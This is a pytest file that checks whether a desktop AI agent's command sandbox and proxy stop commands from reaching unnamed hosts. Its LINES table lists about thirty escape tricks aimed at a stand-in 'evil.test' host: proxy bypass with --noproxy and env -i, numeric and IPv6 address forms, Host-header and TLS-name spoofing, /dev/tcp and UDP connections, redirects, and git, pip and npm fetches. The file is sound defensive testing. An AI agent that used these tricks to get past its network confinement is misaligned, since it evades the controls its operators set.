"""With real programs, a command reaches the one host that it may reach, and no other, whatever it tries.

The allowed host is site.test at 127.0.0.1, the other evil.test at 127.0.0.2; both use the same ports. Only our proxy
knows these names, and that they stand for public hosts.
"""

import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from pathlib import Path

import pytest

from desktop_agent.tools.commands.run_command import run_command
from desktop_agent.tools.tool import RunningCall
from desktop_agent.tools.workspace import Workspace
from tests.desktop_agent.mcp.certificates import certificate, served
from tests.desktop_agent.tools.commands.sandboxes import working_sandbox
from tests.escape.sites import node_registry, open_site, page, python_index, repository

PYTHON = str(Path(sys.executable).resolve())
ADDRESSES = {"site.test": ["127.0.0.1"], "evil.test": ["127.0.0.2"], "moved.test": ["127.0.0.2"]}
CURL = "curl -sS -m 20"
PIP = f"'{PYTHON}' -m pip download --no-deps --no-cache-dir --retries 0 --timeout 10 --trusted-host site.test tiny"
NPM = "npm install --no-audit --no-fund --fetch-retries 0 tiny"
# Connects to the proxy if there is one, otherwise to the server itself.
TWO_AT_ONCE = """
import os, socket
proxy, place = os.environ.get("http_proxy"), "site.test:{site}"
connection = socket.create_connection(("127.0.0.1", 3128 if proxy else {site}), 10)
path = "http://" + place if proxy else ""
connection.sendall(
    f"GET {path}/ HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n".encode()
)
connection.settimeout(2)
try:
    while connection.recv(1000):
        pass
except TimeoutError:
    pass
""".replace("{path}", "{{path}}").replace("{place}", "{{place}}")
SEND = "import socket; socket.socket(2, 2).sendto(b'x', ('127.0.0.2', {udp}))"
GET = "require('http').get('http://127.0.0.2:{evil}/', answer => answer.resume()).on('error', e => console.log(e.code))"

LINES = {
    "by its address": f"{CURL} http://127.0.0.2:{{evil}}/",
    "by its address as a number": f"{CURL} http://2130706434:{{evil}}/",
    "by its address in one of IPv6": f"{CURL} -g 'http://[::ffff:127.0.0.2]:{{evil}}/'",
    "by its name": f"{CURL} --resolve evil.test:{{evil}}:127.0.0.2 http://evil.test:{{evil}}/",
    "by its name with the port of the other": f"{CURL} --resolve evil.test:{{tls}}:127.0.0.1 -k https://evil.test:{{tls}}/",
    "in a tunnel": f"{CURL} -p http://127.0.0.2:{{evil}}/",
    "past the proxy": f"{CURL} --noproxy '*' http://127.0.0.2:{{evil}}/",
    "past the proxy by its name": f"{CURL} --noproxy '*' --resolve evil.test:{{evil}}:127.0.0.2 http://evil.test:{{evil}}/",
    "without the proxy's variables": f"env -i {CURL} http://127.0.0.2:{{evil}}/",
    "by a connection of its own": "echo x > /dev/tcp/127.0.0.2/{evil}",
    "a service of this machine": f"{CURL} http://127.0.0.1:{{own}}/",
    "a service of this machine by its name": f"{CURL} http://localhost:{{own}}/",
    "a service of this machine past no_proxy": f"{CURL} --noproxy '' http://127.0.0.1:{{own}}/",
    "a service of this machine by IPv6": f"{CURL} -g 'http://[::1]:{{six}}/'",
    "a service of this machine by IPv6 past no_proxy": f"{CURL} -g --noproxy '' 'http://[::1]:{{six}}/'",
    "by a redirect": f"{CURL} -L --resolve site.test:{{site}}:127.0.0.1 http://site.test:{{site}}/to-evil",
    "by a name that leads there": f"{CURL} --resolve moved.test:{{evil}}:127.0.0.2 http://moved.test:{{evil}}/",
    "by a name that leads there, in a tunnel": f"{CURL} -p --resolve moved.test:{{evil}}:127.0.0.2 http://moved.test:{{evil}}/",
    "by a datagram, as names are looked up": f"'{PYTHON}' -c \"{SEND}\"",
    "by the header Host": f"{CURL} -H 'Host: evil.test' --resolve site.test:{{site}}:127.0.0.1 http://site.test:{{site}}/",
    "by the header Host in a tunnel": (
        f"{CURL} -p -H 'Host: evil.test' --resolve site.test:{{site}}:127.0.0.1 http://site.test:{{site}}/"
    ),
    "by a second request": f"'{PYTHON}' two.py",
    "by the name in TLS": (
        f"{CURL} -k --resolve site.test:{{tls}}:127.0.0.1 --connect-to evil.test:{{tls}}:site.test:{{tls}} "
        "https://evil.test:{tls}/"
    ),
    "git": "git clone -q http://127.0.0.2:{evil}/repo.git",
    "git past the proxy": "git -c http.proxy= clone -q http://127.0.0.2:{evil}/repo.git",
    "git by its own protocol": "timeout 20 git clone -q git://127.0.0.2:{evil}/repo.git",
    "pip": f"{PIP} -i http://127.0.0.2:{{evil}}/simple --trusted-host 127.0.0.2",
    "pip past the proxy": f"{PIP} -i http://127.0.0.2:{{evil}}/simple --trusted-host 127.0.0.2 --proxy ''",
    "pip by a file of an index": f"{PIP} -i http://{{pip_index}}/simple --trusted-host 127.0.0.2",
    "npm": f"{NPM} --registry http://127.0.0.2:{{evil}}/",
    "npm past the proxy": f"{NPM} --registry http://127.0.0.2:{{evil}}/ --noproxy 127.0.0.2",
    "npm by an archive of a registry": f"{NPM} --registry http://{{npm_registry}}/",
    "node": f'node -e "{GET}"',
}


class Web:
    """All servers that a command could reach, and those that it did reach."""

    def __init__(self, folder: Path, stack: ExitStack) -> None:
        context = served(certificate(folder, "site.test"))
        self.evil = stack.enter_context(open_site("127.0.0.2"))
        evil = f"http://127.0.0.2:{self.evil.server_port}"
        pages = {
            "/to-evil": (302, {"Location": f"{evil}/"}, b""),
            "/repo.git/HEAD": page(b"ref: refs/heads/none\n"),
            **python_index(evil),
            **node_registry(evil),
        }
        self.site = stack.enter_context(open_site("127.0.0.1", pages))
        self.tls = stack.enter_context(open_site("127.0.0.1", None, context))
        self.own = stack.enter_context(open_site("127.0.0.1"))
        self.six = stack.enter_context(open_site("::1")) if socket.has_ipv6 else self.own
        self.datagrams = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self.datagrams.bind(("127.0.0.2", 0))
        self.datagrams.setblocking(False)

    def filled_in(self, line: str) -> str:
        """Return the line with the ports and addresses of these servers."""
        ports = {name: getattr(self, name).server_port for name in ("site", "evil", "tls", "own", "six")}
        address = f"site.test:{self.site.server_port}"
        more = {"udp": self.datagrams.getsockname()[1], "pip_index": address, "npm_registry": address}
        return line.format(**ports, **more)

    def reached(self) -> list[str]:
        """Return all connections to the other host and to this machine."""
        results = [
            f"{site.server_address}: {site.asked}" for site in (self.evil, self.own, self.six) if site.connections
        ]
        results += [
            f"{host}{path}" for site in (self.site, self.tls) for host, path in site.asked if "site.test" not in host
        ]
        results += [f"/second: {path}" for _, path in self.site.asked if path == "/second"]
        results += [f"TLS: {name}" for name in self.tls.names if name not in {"site.test", None}]
        with suppress(BlockingIOError):
            results.append(f"a datagram: {self.datagrams.recv(10)!r}")
        return results


@pytest.fixture
def web(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Iterator[Web]:
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)
    with ExitStack() as stack:
        yield Web(tmp_path_factory.mktemp("web"), stack)


@pytest.fixture
def work(tmp_path: Path) -> Path:
    return tmp_path


async def resolve(host: str, _port: int) -> list[str]:
    if host not in ADDRESSES:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
    return ADDRESSES[host]


async def run(work: Path, line: str, *hosts: str) -> str:
    tool = run_command(
        Workspace(work),
        private_hosts=lambda: frozenset({"site.test", "evil.test"}),
        confinement=lambda: working_sandbox("bubblewrap"),
        resolve=resolve,
    )
    arguments = tool.checked({"command": line, "hosts": list(hosts)})
    (part,) = await tool.run(arguments, RunningCall("1", lambda _: None))
    return part.text  # type: ignore[union-attr]


def needs(line: str) -> None:
    """Skip the test where a program is not installed."""
    for name in ("curl", "git", "npm", "node"):
        if name in line.split() and shutil.which(name, path="/usr/bin:/usr/local/bin") is None:
            pytest.skip(f"{name} is not installed")
    if (
        "-m pip" in line
        and subprocess.run([PYTHON, "-m", "pip", "--version"], capture_output=True, check=False).returncode
    ):
        pytest.skip("this Python has no pip")


@pytest.mark.parametrize("trick", LINES)
async def test_no_other_host_is_reached(trick: str, web: Web, work: Path) -> None:
    needs(LINES[trick])
    (work / "two.py").write_text(web.filled_in(TWO_AT_ONCE))
    await run(work, web.filled_in(LINES[trick]), "site.test", "moved.test")
    assert web.reached() == []


async def test_the_host_that_is_named_is_reached_with_curl(web: Web, work: Path) -> None:
    needs("curl")
    port, secure = web.site.server_port, web.tls.server_port
    for line in (
        f"{CURL} http://site.test:{port}/",
        f"{CURL} -p http://site.test:{port}/",
        f"{CURL} -k https://site.test:{secure}/",
        f"{CURL} http://site.test:{port}/ && {CURL} http://evil.test:1/",
    ):
        output = await run(work, line, "site.test")
        assert output.startswith("the page\n"), output
    assert (
        "[It was kept from hosts that it had not named: evil.test. Name with hosts each one that it must reach.]"
        in output
    )
    assert {host for host, _ in web.site.asked} == {f"site.test:{port}"}


async def test_its_own_servers_are_reached_without_a_name(web: Web, work: Path) -> None:
    needs("curl")
    serve = f"'{PYTHON}' -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 &"
    line = f"{serve} {CURL} --retry 20 --retry-connrefused http://127.0.0.1:8000/ 2>/dev/null; kill $!"
    (work / "index.html").write_text("its own\n")
    for hosts in ((), ("site.test",)):
        assert (await run(work, line, *hosts)).startswith("its own\n")


async def test_git_pip_and_npm_work(web: Web, work: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    address = f"http://site.test:{web.site.server_port}"
    web.site.pages |= repository(tmp_path_factory.mktemp("repository")) | python_index(address) | node_registry(address)
    for line in (
        f"git clone -q {address}/repo.git && git -C repo log --format=%s",
        f"{PIP} -q -i {address}/simple && ls tiny-1.0-py3-none-any.whl",
        f"{NPM} --registry {address}/ >log 2>&1; tail -3 log; ls node_modules/tiny/package.json",
    ):
        needs(line)
        output = await run(work, line, "site.test")
        assert "[exit code 0.]" in output, output
    assert web.reached() == []


def test_the_sites_are_there(web: Web) -> None:
    """Servers that no trick reaches do answer outside of the confinement, so the tests above can fail."""
    for site in (web.evil, web.own, web.site):
        with socket.create_connection(site.server_address[:2]) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
            assert b"the page" in _receive_all(connection)
    assert len(web.reached()) == 3


def _receive_all(connection: socket.socket) -> bytes:
    received = b""
    while chunk := connection.recv(1000):
        received += chunk
    return received
